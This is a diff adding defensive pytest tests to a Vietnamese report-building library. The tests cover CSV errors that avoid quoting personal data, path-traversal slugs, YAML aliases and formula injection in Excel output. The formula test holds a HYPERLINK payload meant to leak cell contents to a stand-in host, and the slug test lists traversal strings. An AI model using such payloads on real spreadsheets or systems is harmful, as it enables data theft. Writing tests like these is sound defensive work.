@@ -182,3 +182,61 @@ def test_messy_sample_gives_a_report_whose_quality_part_tells_the_truth(tmp_path
     assert set(rep.results.by_level) == {"tinh", "huyen", "xa"}
     with pytest.raises(InputError, match="--strict"):
         build_report(p, strict=True)
+
+
+@pytest.mark.parametrize("large", [False, True])
+def test_a_ragged_csv_row_is_named_never_quoted(tmp_path, monkeypatch, large):
+    import tthc_lib.read as read
+
+    if large:
+        monkeypatch.setattr(read, "STREAM_BYTES", 1)
+    path = tmp_path / "x.csv"
+    path.write_text("Mã hồ sơ,Cơ quan giải quyết,Ngày tiếp nhận,Ngày hẹn trả,Ngày có kết quả,"
+                    "Địa chỉ\nA,Sở Tư pháp,01/07/2023,05/07/2023,,Thôn 1\n"
+                    "B,Sở Tư pháp,01/07/2023,05/07/2023,,Số 5, ngõ 7, 0912345678\n",
+                    encoding="utf-8")
+    with pytest.raises(InputError) as err:
+        load(path, cache=False)
+    msg = str(err.value)
+    assert "dòng 3: cần 6 ô, gặp 8 ô" in msg and "0912345678" not in msg and "ngõ" not in msg
+
+
+def test_slug_that_leaves_the_outputs_folder_is_refused(tmp_path):
+    from tthc_lib.paths import report_dir
+    from tthc_lib.spec import load_spec
+
+    write_csv(tmp_path / "hs.csv", [dossier("A", "2023-07-01", "2023-07-05")])
+    for slug in ("../../escaped", "/tmp/abs", "Bắc Giang", "a" * 300, "x\x00y"):
+        p = tmp_path / "p.yaml"
+        p.write_text(f"unit: {{slug: {slug!r}, name: UBND tỉnh D, short_name: tỉnh D}}\n"
+                     "period: 2023-Q3\ndata: hs.csv\n", encoding="utf-8")
+        with pytest.raises(InputError, match="'unit.slug'"):
+            load_spec(p)
+    with pytest.raises(InputError, match="ngoài thư mục outputs"):
+        report_dir(tmp_path / "out", "../x", "2023-Q3")
+
+
+def test_yaml_aliases_are_refused_in_params(tmp_path):
+    from tthc_lib.spec import load_spec
+
+    p = tmp_path / "p.yaml"
+    p.write_text("a: &x [1, 2]\nunit: {slug: d, name: *x, short_name: d}\n", encoding="utf-8")
+    with pytest.raises(InputError, match="bí danh YAML"):
+        load_spec(p)
+
+
+def test_formula_like_names_are_text_in_the_forms(tmp_path):
+    from openpyxl import load_workbook
+
+    from tthc_lib.report import build_report
+
+    evil = '=HYPERLINK("http://x.test/?leak="&A1,"Bấm")'
+    write_csv(tmp_path / "hs.csv", [dossier("A", "2023-07-01", "2023-07-05", "2023-07-04",
+                                            field=evil)])
+    p = tmp_path / "p.yaml"
+    p.write_text("unit: {slug: d, name: UBND tỉnh D, short_name: tỉnh D}\nperiod: 2023-Q3\n"
+                 "data: hs.csv\n", encoding="utf-8")
+    build_report(p).save(tmp_path)
+    ws = load_workbook(tmp_path / "forms.xlsx")["II.06"]
+    cells = [c for row in ws.iter_rows() for c in row if c.value == evil]
+    assert cells and all(c.data_type == "s" for c in cells)
